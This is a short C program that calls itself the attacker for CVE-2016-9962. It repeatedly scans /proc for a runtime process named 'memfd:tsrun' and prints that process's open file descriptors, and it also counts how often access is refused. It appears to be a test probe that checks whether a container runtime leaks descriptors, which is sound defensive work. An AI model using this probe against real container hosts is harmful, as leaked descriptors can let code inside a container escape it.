// The attacker of CVE-2016-9962: looks into every other process, as fast as it can and until its
// input ends. It prints what it could read of one that is still the runtime's, and at the end how
// often it was refused.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static long refused;

static void look(const char* pid) {
  char path[640], link[4096];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  const ssize_t size = readlink(path, link, sizeof link - 1);
  if (size < 0) {
    if (errno == EACCES || errno == EPERM) refused++;
    return;
  }
  link[size] = 0;
  if (strstr(link, "memfd:tsrun") == NULL) return;
  printf("looked into %s\n", link);
  snprintf(path, sizeof path, "/proc/%s/fd", pid);
  DIR* fds = opendir(path);
  if (fds == NULL) return;
  for (struct dirent* entry; (entry = readdir(fds)) != NULL;) {
    snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, entry->d_name);
    const ssize_t length = readlink(path, link, sizeof link - 1);
    if (length < 0) continue;
    link[length] = 0;
    printf("descriptor %s: %s\n", entry->d_name, link);
  }
  closedir(fds);
}

int main(void) {
  char self[32];
  snprintf(self, sizeof self, "%d", getpid());
  if (write(1, "on\n", 3) != 3) return 1;
  struct pollfd input = {.fd = 0, .events = POLLIN};
  while (poll(&input, 1, 0) == 0) {
    DIR* proc = opendir("/proc");
    if (proc == NULL) return 1;
    for (struct dirent* entry; (entry = readdir(proc)) != NULL;) {
      const char* name = entry->d_name;
      if (name[0] >= '0' && name[0] <= '9' && strcmp(name, self) != 0) look(name);
    }
    closedir(proc);
  }
  printf("refused %ld\n", refused);
  return 0;
}
